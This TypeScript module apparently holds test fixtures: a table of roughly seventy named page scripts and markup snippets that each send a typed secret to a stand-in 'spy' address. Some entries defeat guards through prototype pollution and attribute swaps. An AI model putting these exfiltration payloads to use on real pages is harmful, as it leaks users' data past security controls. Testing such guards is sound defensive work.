/**
 * What a page does with what was typed, by way: markup that stands in the page, or a script that runs when it is there. Scripts have
 * `secret`, the address `spy` of who would like to know, one of the page's links as `listed`, and `add(name, properties)` for an element.
 */
export const WAYS_OUT: Record<string, (to: string) => { markup?: string; script?: string }> = {
  'speculation rules': () => ({
    script: `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }], prerender: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }] }) })`,
  }),
  'speculation rules in the page': (to) => ({
    markup: `<script type="speculationrules">{"prefetch":[{"urls":["${to}"],"eagerness":"immediate"}]}</script>`,
  }),
  'speculation rules that change': () => ({
    script: `const one = document.createElement('script'); one.textContent = JSON.stringify({ prefetch: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }] }); one.type = 'speculationrules'; document.head.insertAdjacentElement('beforeend', one)`,
  }),
  prefetch: () => ({ script: `add('link', { rel: 'prefetch', href: spy + '?d=' + secret })` }),
  prerender: () => ({ script: `add('link', { rel: 'prerender', href: spy + '?d=' + secret })` }),
  preload: () => ({ script: `add('link', { rel: 'preload', as: 'image', href: spy + '?d=' + secret })` }),
  preconnect: () => ({ script: `add('link', { rel: 'preconnect', href: spy })` }),
  'preconnect in the page': (to) => ({ markup: `<link rel="preconnect" href="${to}">` }),
  'preconnect by an object that spells itself twice': () => ({
    script: `const one = add('link', { rel: 'x', href: spy }); let asked = 0;
      one.setAttribute('rel', { toString: () => (asked++ === 0 ? 'x' : 'preconnect') })`,
  }),
  'preconnect by attribute': () => ({
    script: `const one = add('link', { rel: 'x', href: spy }); one.setAttribute('rel', 'preconnect')`,
  }),
  'preconnect by attribute node': () => ({
    script: `const one = add('link', { rel: 'x', href: spy }); one.getAttributeNode('rel').nodeValue = 'preconnect'; one.attributes.rel.textContent = 'preconnect'`,
  }),
  'preconnect by markup': () => ({
    script: `document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href="' + spy + '">')`,
  }),
  'preconnect by write': (to) => ({
    markup: `<script>document.write('<link rel=preconnect href="${to}">')</script>`,
  }),
  webrtc: () => ({
    script: `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
  }),
  'webrtc of a frame': () => ({
    script: `const f = add('iframe', {}); const RTC = f.contentWindow.RTCPeerConnection; const pc = new RTC({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
  }),
  'webrtc of a numbered frame': () => ({
    script: `document.body.innerHTML += '<div><iframe></iframe></div>'; const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
  }),
  'webrtc of a frame in the page': () => ({
    markup: `<iframe></iframe><script>try { const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } catch {}</script>`,
  }),
  'webrtc of a frame by its load': () => ({
    script: `window.go = (w) => { const pc = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) }; const d = document.createElement('div'); const f = document.createElement('iframe'); f.onload = () => go(window[0]); d.append(f); document.body.append(d)`,
  }),
  'webrtc of a custom element beside a frame': () => ({
    script: `customElements.define('x-a', class extends HTMLElement { connectedCallback() { const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } }); const d = document.createElement('div'); d.append(document.createElement('iframe'), document.createElement('x-a')); document.body.append(d)`,
  }),
  'webrtc of a written frame': () => ({
    script: `const f = add('iframe', { srcdoc: "<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))<" + "/script>" })`,
  }),
  'a window': () => ({ script: `open(spy + '?d=' + secret)` }),
  'a window of its own': () => ({ script: `const w = open(''); w.location = spy + '?d=' + secret` }),
  'a window of a frame': () => ({ script: `add('iframe', {}).contentWindow.open(spy + '?d=' + secret)` }),
  location: () => ({ script: `location.href = spy + '?d=' + secret` }),
  'location of a frame for the top': () => ({
    script: `const f = add('iframe', {}); f.contentWindow.eval("top.location.assign(top.spy + '?d=' + top.secret)")`,
  }),
  'a listed address with more in it': () => ({
    script: `location.href = listed + '?d=' + secret + '#' + secret`,
  }),
  'a listed address with what stands in the page address': () => ({
    script: `history.replaceState(null, '', '?d=' + secret); location.href = listed + '?d=' + secret`,
  }),
  'a listed address with what the page has led itself to': () => ({
    script: `if (location.search === '') location.href = '/?d=' + secret; else location.href = listed + '?d=' + secret`,
  }),
  'a listed address from a frame that has it': () => ({
    script: `if (top === window) add('iframe', { src: '/?d=' + secret }); else { open(listed + '?d=' + secret); add('a', { href: listed + '?d=' + secret, target: '_blank' }).click() }`,
  }),
  'methods of lists replaced': () => ({
    script: `Array.prototype.some = () => true; Array.prototype.filter = function () { return this }; location.href = spy + '?d=' + secret`,
  }),
  'listeners that are told to stop': () => ({
    script: `Object.prototype.signal = AbortSignal.abort(); Object.prototype.once = true; const f = add('iframe', {}); const a = f.contentDocument.createElement('a'); a.href = spy + '?d=' + secret; a.target = '_blank'; f.contentDocument.body.append(a); delete Object.prototype.signal; setTimeout(() => a.click(), 50)`,
  }),
  'descriptors that break': () => ({
    script: `Object.prototype.get = () => 1; Object.prototype.attributeFilter = 1; try { add('iframe', {}) } catch {} delete Object.prototype.get; delete Object.prototype.attributeFilter; const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
  }),
  'functions of the guard': () => ({
    script: `const a = add('a', { href: '#', target: '_blank' }); a.addEventListener('click', (e) => { const F = e.preventDefault.constructor; if (F !== Function) F('return Set.prototype')().has = () => true; }); a.click(); setTimeout(() => { location.href = listed + '?d=' + secret }, 200)`,
  }),
  'an app that falls back': () => ({
    script: `location.href = 'intent://send#Intent;scheme=x;S.browser_fallback_url=' + encodeURIComponent(spy + '?d=' + secret) + ';end'`,
  }),
  'a window of code': () => ({
    script: `open('javascript:location="' + spy + '?d=' + secret + '"'); add('a', { href: 'javascript:open("' + spy + '?d=' + secret + '")', target: '_blank' }).click()`,
  }),
  'a policy that reports': (to) => ({
    markup: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to}">`,
    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "font-src 'none'; report-uri " + spy + '?d=' + secret })); new Image().src = '/nao.png'`,
  }),
  'a map of modules': () => ({
    script: `add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: spy + '?d=' + secret } }) }); import('x').catch(() => {})`,
  }),
  'a shared worker': () => ({
    script: `new SharedWorker('data:text/javascript,' + encodeURIComponent("fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' })"))`,
  }),
  'web transport': () => ({ script: `new WebTransport(spy.replace('http:', 'https:') + '?d=' + secret)` }),
  'a payment': () => ({
    script: `new PaymentRequest([{ supportedMethods: spy + '?d=' + secret }], { total: { label: 'x', amount: { currency: 'BRL', value: '1' } } }).canMakePayment().catch(() => {})`,
  }),
  'a sign-in of others': () => ({
    script: `navigator.credentials.get({ identity: { providers: [{ configURL: spy + '?d=' + secret, clientId: 'x' }] } }).catch(() => {})`,
  }),
  'a manifest': () => ({
    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: spy + '?d=' + secret }))`,
  }),
  'a drawing of others': () => ({
    script: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + spy + '?d=' + secret + '#a"/><image href="' + spy + '?d=' + secret + '"/></svg>')`,
  }),
  'a form in a root': () => ({
    script: `const r = add('div', {}).attachShadow({ mode: 'closed' }); r.innerHTML = '<form action="' + spy + '?d=' + secret + '" target=_blank><button>x</button></form>'; r.querySelector('button').click()`,
  }),
  'a button with an address': () => ({
    script: `const f = add('form', {}); const b = Object.assign(document.createElement('button'), { formAction: spy + '?d=' + secret, formTarget: '_blank' }); f.append(b); b.click()`,
  }),
  'a style of the typed': () => ({
    script: `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(' + spy + '?d=' + secret + '); body { cursor: url(' + spy + '?d=' + secret + '), auto; list-style-image: url(' + spy + '?d=' + secret + ') } @font-face { font-family: z; src: url(' + spy + '?d=' + secret + ') } p { font-family: z }' })); add('p', { textContent: 'x' })`,
  }),
  'an icon': () => ({
    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: spy + '?d=' + secret }))`,
  }),
  'a notification of data': () => ({
    script: `document.body.insertAdjacentHTML('beforeend', '<video poster="' + spy + '?d=' + secret + '" src="' + spy + '?d=' + secret + '" autoplay></video><audio src="' + spy + '?d=' + secret + '"></audio><embed src="' + spy + '?d=' + secret + '"><object data="' + spy + '?d=' + secret + '"></object>')`,
  }),
  'a link that is pressed by script': () => ({ script: `add('a', { href: spy + '?d=' + secret }).click()` }),
  'a link for a new window': () => ({
    script: `add('a', { href: spy + '?d=' + secret, target: '_blank' }).click()`,
  }),
  'a link in no page': () => ({
    script: `Object.assign(document.createElement('a'), { href: spy + '?d=' + secret, target: '_blank' }).click()`,
  }),
  'a link that changes under the press': () => ({
    script: `const a = add('a', { href: listed, target: '_blank' }); a.addEventListener('click', () => { a.href = spy + '?d=' + secret }); a.click()`,
  }),
  'an event at a link': () => ({
    script: `Object.assign(document.createElement('a'), { href: spy + '?d=' + secret, target: '_blank' }).dispatchEvent(new MouseEvent('click'))`,
  }),
  ping: () => ({ script: `add('a', { href: '#', ping: spy + '?d=' + secret }).click()` }),
  'meta refresh': () => ({
    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + spy + '?d=' + secret }))`,
  }),
  'meta refresh in the page': (to) => ({ markup: `<meta http-equiv="refresh" content="0;url=${to}">` }),
  'a form': () => ({
    script: `const f = add('form', { action: spy + '?d=' + secret, method: 'get', target: '_blank' }); HTMLFormElement.prototype.submit.call(f); f.requestSubmit()`,
  }),
  beacon: () => ({ script: `navigator.sendBeacon(spy, secret)` }),
  fetch: () => ({
    script: `fetch(spy + '?d=' + secret, { mode: 'no-cors', keepalive: true }).catch(() => {})`,
  }),
  'fetch of a frame': () => ({
    script: `add('iframe', {}).contentWindow.fetch(spy + '?d=' + secret, { mode: 'no-cors' }).catch(() => {})`,
  }),
  image: () => ({ script: `new Image().src = spy + '?d=' + secret` }),
  'image of a style': () => ({
    script: `document.body.style.background = 'url(' + spy + '?d=' + secret + ')'`,
  }),
  font: () => ({ script: `new FontFace('x', 'url(' + spy + '?d=' + secret + ')').load().catch(() => {})` }),
  import: () => ({ script: `import(spy + '?d=' + secret).catch(() => {})` }),
  events: () => ({ script: `new EventSource(spy + '?d=' + secret)` }),
  socket: () => ({ script: `new WebSocket(spy + '?d=' + secret)` }),
  worker: () => ({
    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' }).catch(() => {}); try { importScripts('" + spy + "') } catch {}; try { new RTCPeerConnection() } catch {}"])))`,
  }),
  'worker of data': () => ({
    script: `new Worker('data:text/javascript,' + encodeURIComponent("fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' })"))`,
  }),
  frame: () => ({ script: `add('iframe', { src: spy + '?d=' + secret })` }),
  'frame of data': () => ({
    script: `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<img src="' + spy + '?d=' + secret + '"><script>location="' + spy + '"</scr' + 'ipt>') })`,
  }),
  'frame of a blob': () => ({
    script: `add('iframe', { src: URL.createObjectURL(new Blob(['<script>top.location="' + spy + '"</scr' + 'ipt>'], { type: 'text/html' })) })`,
  }),
  'link in a drawing': () => ({
    script: `document.body.insertAdjacentHTML('beforeend', '<svg><a id=q href="' + spy + '?d=' + secret + '" target=_blank><text y=20>x</text></a></svg>'); document.getElementById('q').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }))`,
  }),
};
